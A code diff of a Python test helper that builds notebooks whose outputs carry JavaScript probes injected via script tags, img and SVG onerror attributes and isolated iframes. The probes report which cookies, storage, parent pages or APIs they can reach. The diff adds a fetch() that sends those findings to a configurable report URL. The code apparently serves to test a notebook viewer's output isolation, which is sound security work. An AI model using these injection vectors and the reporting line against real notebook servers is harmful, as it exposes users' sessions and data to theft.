@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 from typing import Any
 
 TRIES = """
@@ -23,31 +24,52 @@ TRIES = """
   said.className = 'found';
   said.textContent = found.join(', ');
   document.body.append(said);
+  if (REPORT) fetch(REPORT + '?' + encodeURIComponent(found.join(', ')), {mode: 'no-cors'});
 })();
 """
 NOTHING = "cookie no, storage no, page no, top no, api no, popup no"
 """What an output says that has tried all of it in vain."""
 
 
-def tries(url: str) -> str:
-    """A script that says below its output what it could read of the fleet at `url`."""
-    return TRIES.replace("API", json.dumps(f"{url.rstrip('/')}/api/contents/demo"))
+SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
+
+
+def tries(api: str, report: str = "") -> str:
+    """A script that says below its output, and to the address `report`, what it could read of this
+    page and of `api`."""
+    return TRIES.replace("API", json.dumps(api)).replace("REPORT", json.dumps(report))
+
+
+def in_attribute(script: str) -> str:
+    """A script in an attribute between double quotes."""
+    return script.replace("&", "&amp;").replace('"', "&quot;")
 
 
 def scripts(url: str) -> dict[str, dict[str, Any]]:
-    """Outputs with such a script, by the way in which it is run."""
-    script = tries(url)
-    in_attribute = script.replace('"', "&quot;")
-    svg = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
+    """Outputs with a script that reads what it can of the fleet at `url`."""
+    return run_scripts(lambda _: tries(f"{url.rstrip('/')}/api/contents/demo"))
+
+
+def run_scripts(script_of: Callable[[str], str]) -> dict[str, dict[str, Any]]:
+    """Outputs with a script, by the way in which it is run; `script_of` makes it for each way."""
+    script = {
+        name: script_of(name)
+        for name in ("script", "image", "svg", "javascript", "isolated", "isolated-type")
+    }
     return {
-        "script": html(f"<script>{script}</script>"),
-        "image": html(f'<img src="data:," onerror="{in_attribute}">'),
+        "script": html(f"<script>{script['script']}</script>"),
+        "image": html(f'<img src="data:," onerror="{in_attribute(script["image"])}">'),
         "svg": output(
-            {"image/svg+xml": f'{svg}<image href="data:," onerror="{in_attribute}"/></svg>'}
+            {
+                "image/svg+xml": f'{SVG}<image href="data:," onerror="'
+                f'{in_attribute(script["svg"])}"/></svg>'
+            }
         ),
-        "javascript": output({"application/javascript": script}),
-        "isolated": html(f"<script>{script}</script>", isolated=True),
-        "isolated-type": html(f"<script>{script}</script>", **{"text/html": {"isolated": True}}),
+        "javascript": output({"application/javascript": script["javascript"]}),
+        "isolated": html(f"<script>{script['isolated']}</script>", isolated=True),
+        "isolated-type": html(
+            f"<script>{script['isolated-type']}</script>", **{"text/html": {"isolated": True}}
+        ),
     }
 
 
@@ -138,8 +160,10 @@ def html(source: str, **metadata: Any) -> dict[str, Any]:
     return output({"text/html": source}, **metadata)
 
 
-def notebook_of(outputs: dict[str, dict[str, Any]]) -> dict[str, Any]:
-    """A notebook with one output in each cell; the cells' sources are the names."""
+def notebook_of(
+    outputs: dict[str, dict[str, Any]], *others: dict[str, Any], **metadata: Any
+) -> dict[str, Any]:
+    """A notebook with one output in each cell, whose sources are the names, and `others`."""
     cells = [
         {
             "cell_type": "code",
@@ -151,4 +175,9 @@ def notebook_of(outputs: dict[str, dict[str, Any]]) -> dict[str, Any]:
         }
         for name, shown in outputs.items()
     ]
-    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
+    return {
+        "nbformat": 4,
+        "nbformat_minor": 5,
+        "metadata": metadata,
+        "cells": [*cells, *others],
+    }
